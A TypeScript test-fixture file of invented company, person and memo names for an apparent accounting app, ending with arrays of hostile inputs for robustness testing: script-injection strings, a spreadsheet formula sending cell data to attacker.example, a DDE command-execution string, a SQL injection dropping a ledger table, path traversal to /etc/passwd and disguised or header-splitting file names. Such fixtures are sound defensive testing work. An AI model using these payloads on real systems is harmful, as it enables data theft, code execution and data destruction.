/** Invented companies and people: nothing here names a real one. */
export const suppliers = list(`
  Cloudbarn Hosting | Paperkite Software | Tallgrass Telecom | Meridian Freight |
  Bolt & Bracket Supply | Sunny Side Office Goods | Ferrous Metals Depot | Quillmark Legal |
  Ledgerline Advisory | Brightwater Utilities | Greenfield Insurance | Packhorse Logistics |
  Copperleaf Printing | Harborview Storage | Northstar Recruiting | Evergreen Cleaning
`)

export const merchants = list(`
  Corner Bean Café | Fastlane Fuel | Paperkite Software | Skyways Airline | Hotel Meridian |
  Yellow Door Taxi | Noodle Republic | Officeworks Depot | Adbeam Advertising |
  Cloudbarn Hosting | Designhub Subscription | Metro Parking | Dockside Grill |
  Parcelpoint Shipping | Trainline East | Toolshed Hardware | Fresh Basket Market |
  Conference Pass Ltd.
`)

export const payers = list(`
  Stripeline Payouts | Marketplace Settlement | Squareline Payouts | Lockbox Deposit
`)

export const customerNames = list(`
  Atlas Manufacturing Co. | Beacon Health Group | Cobalt Studios LLC | Dunmore Estates |
  Elm Street Partners | Fjord Imports A/S | Granite Peak Outfitters | Hollis & Wray LLP |
  Ivory Coast Trading SARL | Jubilee Events | Kestrel Aviation Inc. | Lumen Lighting GmbH |
  Mosaic Schools Trust | Nimbus Weather Services | Orchard Foods Co-op | Pálinka & Sons Kft. |
  Quarry Lane Builders | Ridgeway University | Señor Taco Franchise | Tidewater Marine
`)

export const givenNames = list(`
  Amara | Boris | Chloé | Diego | Esther | Farid | Grace | Hiro | Ingrid | Jamal | Keiko |
  Lena | Mateo | Noor | Oskar | Priya | Quinn | Rosa | Søren | Tala
`)

export const familyNames = list(`
  Abara | Brandt | Castillo | Dubois | Eriksen | Farouk | Goldberg | Hayashi | Ivanov | Jensen |
  Kowalski | Lindqvist | Moreau | Nakamura | O’Brien | Petrov | Quigley | Rossi | Sato |
  Thornton
`)

export const cardNames = list(`
  Team travel | Office supplies | Advertising | Software | Field work | Events |
  Client lunches | Fuel
`)

export const products = list(`
  Consulting, hourly | Monthly retainer | Installation | Annual licence | Spare parts |
  Training day | Maintenance plan | Design review
`)

export const memos = list(`
  Invoice payment | Monthly service | Q3 allocation | Per agreement | Reimbursement |
  Order 4471 | Renewal
`)

export const notes = list(`
  Split with Boston office | Ask Lena for the receipt | 100 % deductible
`)

export const streets = list('Harbor Road | Mill Lane | Fifth Avenue | Station Street')

/** The entries of a text that are parted by bars. */
function list(text: string): readonly string[] {
  return text.split('|').map((entry) => entry.trim())
}

/** Text that careless code trips over, all of it legal in the bank's books. */
export const oddNames = [
  '',
  ' ',
  '<script>alert("counterparty")</script>',
  '"><img src=x onerror=alert(1)>',
  '=HYPERLINK("https://attacker.example/?"&A1,"Refund")',
  '+1-800-EVIL',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+9)*cmd',
  '＝1＋1',
  '\tTabbed, first',
  'Line\nbreak\r\nLtd.',
  'Comma, "Quote" & Sons; Semicolon',
  'Right\u202eot\u202c-to-left GmbH',
  'שלום מסחר בע״מ',
  'شركة اللؤلؤ للتجارة',
  '株式会社 雲商事',
  '👩‍👩‍👧‍👦 Family 🏳️‍🌈 Ltd. 🦊',
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘',
  'zero\u200bwidth\u200djoin\ufeffers',
  "Robert'); DROP TABLE ledger_transaction;--",
  '100 % _wild_ \\card',
  'null',
  'undefined',
  '[object Object]',
  '{{7*7}} ${7*7} %s %n',
  'x'.repeat(500),
  `${'🦊'.repeat(249)} F`,
  'IİıiẞßK Straße',
  'café cafe\u0301',
  '../../etc/passwd',
] as const

/** File names that must not split a header, climb a folder or run. */
export const oddFileNames = [
  '../../../etc/passwd.pdf',
  'CON.pdf',
  'resume\u202efdp.exe.pdf',
  'quote"semicolon;.pdf',
  'line\r\nContent-Type: text/html.pdf',
  'ünïcödé 領収書 🧾.pdf',
  '<img src=x>.png',
  `${'long'.repeat(80)}.pdf`,
  '=cmd.pdf',
] as const
